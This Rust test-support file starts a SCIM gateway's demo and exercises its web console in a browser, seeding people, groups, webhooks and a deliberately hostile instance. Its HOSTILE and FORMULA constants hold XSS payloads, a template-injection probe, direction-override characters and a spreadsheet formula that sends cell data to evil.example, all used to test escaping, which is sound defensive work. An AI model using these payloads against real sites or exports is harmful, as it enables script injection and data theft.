//! `scimgate demo` as a process, and its console in a browser.

use std::process::Stdio;
use std::time::Duration;

use http::Method;
use serde_json::{Value, json};
use tempfile::TempDir;
use tests::browser::{Browser, Trouble};
use tests::env::setting;
use tests::{Admin, Scim, Sim, process};
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::process::{Child, Command};

/// How long the demonstration may take to be ready.
const READY: Duration = Duration::from_secs(120);
/// The schema of a SCIM user.
pub(crate) const USER: &str = "urn:ietf:params:scim:schemas:core:2.0:User";
/// A name as a hostile directory would have it: markup that runs script where it is not escaped, a formula, a change of the
/// text's direction, nothing to see.
pub(crate) const HOSTILE: &str =
    "<img src=x onerror=\"alert(1)\"><script>alert(2)</script>\u{202e}gro.live\u{202c}&'\u{200b}{{7*7}}";
/// What a spreadsheet would run.
pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1,\"Ada\")";

/// A running demonstration. It is killed when this is dropped.
pub(crate) struct Demo {
    // Dropped before its folder: fields go in order.
    _child: Child,
    _folder: TempDir,
    /// Where its gateway listens.
    pub(crate) url: String,
    /// The admin token that it printed.
    pub(crate) token: String,
}

impl Demo {
    pub(crate) async fn start() -> Self {
        let folder = tempfile::tempdir().expect("a temporary folder can be made");
        let mut command = Command::new(process::binary());
        command.arg("demo").env_clear().env("TMPDIR", folder.path()).stdin(Stdio::null()).stdout(Stdio::piped());
        for kept in ["PATH", "HOME", "LLVM_PROFILE_FILE"] {
            if let Some(value) = setting(kept) {
                command.env(kept, value);
            }
        }
        let mut child = command.kill_on_drop(true).spawn().expect("scimgate demo can be started");
        let mut lines = BufReader::new(child.stdout.take().expect("stdout was asked for")).lines();
        let printed = tokio::time::timeout(READY, async {
            let mut printed = Vec::new();
            while let Some(line) = lines.next_line().await.expect("what it prints is text") {
                if line.starts_with("Ready.") {
                    return printed;
                }
                printed.push(line);
            }
            panic!("the demonstration ended: {printed:#?}");
        })
        .await
        .expect("the demonstration is ready within its bound");
        // Whatever else it says is read and dropped, so that a full pipe never stops it.
        tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
        let one = |word: &str| {
            let found = printed.iter().find_map(|line| line.strip_prefix(word));
            found.unwrap_or_else(|| panic!("no {word} in {printed:#?}")).trim().to_owned()
        };
        Self { url: one("gateway "), token: one("token "), _child: child, _folder: folder }
    }

    pub(crate) fn admin(&self) -> Admin {
        Admin::new(&self.url, &self.token)
    }

    pub(crate) fn console(&self, path: &str) -> String {
        format!("{}/console{path}", self.url)
    }
}

/// Signs in with the token, as a person does.
pub(crate) async fn sign_in(browser: &Browser, demo: &Demo, token: &str) {
    browser.open(&demo.console("")).await;
    browser.fill("Admin token", token).await;
    browser.follow("Sign in").await;
    let (address, page) = (browser.address().await, browser.text_of("document.documentElement.outerHTML").await);
    assert_eq!(address, demo.console(""), "{page}");
}

/// Holds that no page did what none should: no refusal of the policy (CSP), no exception, no dialog, nothing on the
/// console, nothing that could not be loaded.
#[track_caller]
pub(crate) fn calm(browser: &Browser, at: &str, pages_of_errors: &[&str]) {
    let mut troubles = browser.troubles();
    // A page that says that something is wrong is logged by the browser as one that could not be loaded.
    let known = |one: &Trouble| one.kind == "network" && pages_of_errors.contains(&one.url.as_str());
    troubles.retain(|one| !known(one));
    assert!(troubles.is_empty(), "{at}: {troubles:#?}");
}

/// A person as an identity provider creates one.
pub(crate) fn person(user_name: &str, display: &str) -> Value {
    let mut parts = display.splitn(2, ' ');
    let (given, family) = (parts.next().unwrap_or_default(), parts.next().unwrap_or("Example"));
    json!({
        "schemas": [USER],
        "userName": user_name,
        "displayName": display,
        "name": {"givenName": given, "familyName": family},
        "emails": [{"value": user_name, "type": "work", "primary": true}],
        "active": true,
    })
}

/// Has the identity provider create a person; answers the id.
pub(crate) async fn push(scim: &Scim, body: &Value) -> String {
    let made = scim.call(Method::POST, "/Users", Some(body)).await.expect(201);
    made["id"].as_str().expect("a person has an id").to_owned()
}

/// The people and groups of a company, at a target that people use: most have accepted, some wait.
pub(crate) const PEOPLE: [(&str, &str); 14] = [
    ("ada@acme.example", "Ada Lovelace"),
    ("grace@acme.example", "Grace Hopper"),
    ("katherine@acme.example", "Katherine Johnson"),
    ("alan@acme.example", "Alan Turing"),
    ("dorothy@acme.example", "Dorothy Vaughan"),
    ("edsger@acme.example", "Edsger Dijkstra"),
    ("barbara@acme.example", "Barbara Liskov"),
    ("tony@acme.example", "Tony Hoare"),
    ("margaret@acme.example", "Margaret Hamilton"),
    ("donald@acme.example", "Donald Knuth"),
    ("radia@acme.example", "Radia Perlman"),
    ("ken@acme.example", "Ken Thompson"),
    ("frances@acme.example", "Frances Allen"),
    ("john@acme.example", "John McCarthy"),
];

/// An instance as a company has it after a while, beside the two of the demonstration: something of everything that a page
/// can show.
pub(crate) struct Company {
    pub(crate) sim: Sim,
    pub(crate) id: String,
    pub(crate) people: Vec<String>,
    pub(crate) group: String,
    pub(crate) hold: String,
    /// An event stream that is polled.
    pub(crate) stream: String,
}

impl Company {
    pub(crate) async fn settle(demo: &Demo) -> Self {
        let admin = demo.admin();
        let sim = Sim::start("buildkite").await;
        let mut body = sim.instance("Buildkite acme");
        body["policy"] = json!({"brake": {"accounts": 1, "percent": 0, "window_minutes": 60}});
        let made = admin.call(Method::POST, "/instances", Some(body)).await.expect(201);
        let text = |value: &Value, name: &str| value[name].as_str().unwrap_or_default().to_owned();
        let id = text(&made, "id");
        let key = admin
            .call(Method::POST, &format!("/instances/{id}/keys"), Some(json!({"name": "Entra 2026"})))
            .await
            .expect(201);
        let scim = Scim::new(&text(&made, "scim_base_url"), &text(&key, "key"));
        admin.imported(&id).await;
        let mut people = Vec::new();
        for (user_name, display) in &PEOPLE[..12] {
            people.push(push(&scim, &person(user_name, display)).await);
        }
        admin.settled(&id).await;
        sim.accept(json!({})).await;
        admin.run(&id, "reconcile").await;
        // Two are new, and have not accepted yet: their team waits for them.
        for (user_name, display) in &PEOPLE[12..] {
            people.push(push(&scim, &person(user_name, display)).await);
        }
        let members: Vec<&str> = people.iter().map(String::as_str).collect();
        let group = scim.group("Platform engineering", &members[..8]).await;
        scim.group("On call", &[members[1], members[12]]).await;
        // A person whom the target refuses, somebody whose request was wrong, and a key that is none of ours.
        let bad = json!({"schemas": [USER], "userName": ""});
        scim.call(Method::POST, "/Users", Some(&bad)).await;
        scim.call(Method::GET, "/Users?filter=userName%20zz%20%22a%22", None).await;
        // More leave at once than the brake lets pass.
        for leaver in &people[8..12] {
            scim.set_active(leaver, false).await;
        }
        let hold = tests::wait_until("the brake holds the leavers", READY, async || {
            let held = admin.work(&id, "state=held").await;
            let holds = admin.list("/holds?state=open").await;
            (held.len() == 3).then(|| holds.first().map(|one| text(one, "id"))).flatten()
        })
        .await;
        // Who is told of alerts and of changes, and what is declared beside the core schemas.
        let hook =
            json!({"url": "https://hooks.example.com/scimgate", "events": ["credential.dead", "deprovision.overdue"]});
        admin.call(Method::POST, "/alert-webhooks", Some(hook)).await.expect(201);
        let stream = json!({"name": "SIEM", "delivery": "poll", "payload": "full"});
        let stream =
            admin.call(Method::POST, &format!("/instances/{id}/event-streams"), Some(stream)).await.expect(201);
        let stream = text(&stream, "id");
        let declared = json!({"schema": {
            "attributes": [{"resource_type": "User", "schema": "enterprise", "name": "badge", "type": "string", "uniqueness": "server"}],
            "resource_types": [{"name": "Device", "endpoint": "Devices", "schema": {"id": "urn:example:Device", "name": "Device",
                "attributes": [{"name": "serial", "type": "string", "required": true}]}}],
        }});
        admin.call(Method::PATCH, &format!("/instances/{id}"), Some(declared)).await.expect(200);
        Self { sim, id, people, group, hold, stream }
    }
}

/// An instance whose every name is hostile: long, in markup, in formulas, in another direction. Its target is never called.
pub(crate) async fn hostile(demo: &Demo) -> String {
    let admin = demo.admin();
    let body = json!({"name": HOSTILE, "connector": "buildkite", "settings": {"org": "acme"}, "secrets": {"token": "canary"}, "mode": "paused"});
    let made = admin.call(Method::POST, "/instances", Some(body)).await.expect(201);
    let id = made["id"].as_str().expect("an instance has an id").to_owned();
    let key =
        admin.call(Method::POST, &format!("/instances/{id}/keys"), Some(json!({"name": HOSTILE}))).await.expect(201);
    let base = made["scim_base_url"].as_str().expect("an instance has an address");
    let scim = Scim::new(base, key["key"].as_str().expect("a new key is told"));
    let long = "x".repeat(4_000);
    let mut members = Vec::new();
    for user_name in [HOSTILE, FORMULA, long.as_str()] {
        let body = json!({"schemas": [USER], "userName": user_name, "displayName": HOSTILE, "title": FORMULA});
        members.push(push(&scim, &body).await);
    }
    let members: Vec<&str> = members.iter().map(String::as_str).collect();
    scim.group(HOSTILE, &members).await;
    scim.group(&"\u{5d0}\u{5d1}W".repeat(1_000), &members[..1]).await;
    id
}

/// What is there beside people: a target without an API and a task that somebody is asked to do, a member, a manifest of
/// one's own, an operation. The addresses of their pages.
pub(crate) async fn further(demo: &Demo, of: &str) -> Vec<String> {
    let admin = demo.admin();
    let body = json!({"name": "Payroll", "connector": "manual", "settings": {"app": "Payroll"}, "secrets": {}, "mode": "enabled"});
    let made = admin.call(Method::POST, "/instances", Some(body)).await.expect(201);
    let id = made["id"].as_str().expect("an instance has an id").to_owned();
    let key =
        admin.call(Method::POST, &format!("/instances/{id}/keys"), Some(json!({"name": "IdP"}))).await.expect(201);
    let base = made["scim_base_url"].as_str().expect("an instance has an address");
    let scim = Scim::new(base, key["key"].as_str().expect("a new key is told"));
    push(&scim, &person("grace@acme.example", "Grace Hopper")).await;
    let path = format!("/tasks?instance={id}");
    let task = tests::wait_until("somebody is asked", READY, async || {
        let tasks = admin.call(Method::GET, &path, None).await.expect(200);
        tasks["items"][0]["id"].as_str().map(str::to_owned)
    })
    .await;
    let member = json!({"name": "Grace", "role": "viewer"});
    let member = admin.call(Method::POST, "/members", Some(member)).await.expect(201);
    let member = member["id"].as_str().expect("a member has an id").to_owned();
    let text = std::fs::read_to_string(tests::workspace().join("config/connectors/pagerduty.toml"));
    let text = text.expect("a manifest of the catalogue").replacen("name = \"pagerduty\"", "name = \"our_duty\"", 1);
    let manifest =
        admin.call(Method::POST, "/manifests", Some(json!({"text": text, "format": "toml"}))).await.expect(201);
    let version = manifest["version"].as_str().expect("a manifest has a version").to_owned();
    let link = admin.call(Method::POST, &format!("/instances/{of}/handovers"), None).await.expect(201);
    let (link, handed) = (&link["id"], link["url"].as_str().and_then(|url| url.split_once("/console")));
    let (link, (_, handed)) = (link.as_str().expect("a link has an id"), handed.expect("a new link is told"));
    // Receivers that are not there: what is sent to them does not arrive.
    let nobody = "http://127.0.0.1:9/scimgate";
    let hook = admin.call(Method::POST, "/alert-webhooks", Some(json!({"url": nobody}))).await.expect(201);
    let hook = hook["id"].as_str().expect("a webhook has an id").to_owned();
    admin.call(Method::POST, &format!("/alert-webhooks/{hook}/test"), None).await.expect(202);
    let streams = format!("/instances/{of}/event-streams");
    let stream =
        json!({"name": "Archive", "delivery": "push", "endpoint_url": nobody, "authorization": "Bearer canary"});
    let stream = admin.call(Method::POST, &streams, Some(stream)).await.expect(201);
    let stream = stream["id"].as_str().expect("a stream has an id").to_owned();
    admin.call(Method::PATCH, &format!("{streams}/{stream}"), Some(json!({"verify": true}))).await.expect(200);
    // An instance that holds to a version of that manifest, one to which it can be moved, and one that asks for more.
    let duty = json!({"name": "Duty", "connector": "our_duty", "settings": {"from": "ops@acme.example"}, "secrets": {"api_key": "canary"}, "mode": "paused"});
    let duty = admin.call(Method::POST, "/instances", Some(duty)).await.expect(201);
    let duty = duty["id"].as_str().expect("an instance has an id").to_owned();
    let more =
        "[[settings]]\nname = \"site\"\ntitle = \"Site\"\nhelp = \"Which site.\"\nrequired = true\n\n[[secrets]]";
    for (next, text) in [("98", text.clone()), ("99", text.replacen("[[secrets]]", more, 1))] {
        let text = text.replacen(&format!("version = \"{version}\""), &format!("version = \"{next}\""), 1);
        admin.call(Method::POST, "/manifests", Some(json!({"text": text, "format": "toml"}))).await.expect(201);
    }
    let operations = admin.call(Method::GET, &format!("/instances/{of}/operations"), None).await.expect(200);
    let operation = operations["items"][0]["id"].as_str().expect("an operation has an id").to_owned();
    vec![
        "/attention".to_owned(),
        "/tasks".to_owned(),
        format!("/tasks/{task}"),
        format!("/instances/{id}/accounts"),
        format!("/settings/members/{member}"),
        format!("/settings/members/{member}/remove"),
        format!("/catalogue/our_duty/versions/{version}"),
        format!("/catalogue/our_duty/versions/{version}/delete"),
        format!("/catalogue/build/test?manifest=our_duty&version={version}"),
        format!("/operations/{operation}/dismiss"),
        format!("/instances/{of}/hand-over"),
        format!("/instances/{of}/hand-over/{link}/revoke"),
        handed.to_owned(),
        format!("{handed}?idp=okta"),
        format!("/settings/alerts/{hook}"),
        format!("/settings/alerts/{hook}/remove"),
        format!("/instances/{of}/settings/streams/{stream}"),
        format!("/instances/{of}/settings/streams/{stream}/change"),
        format!("/instances/{of}/settings/streams/{stream}/remove"),
        format!("/instances/{duty}/settings"),
        format!("/instances/{duty}/settings/version"),
        format!("/instances/{duty}/settings/version?to=98"),
        format!("/instances/{duty}/settings/version?to=99"),
    ]
}
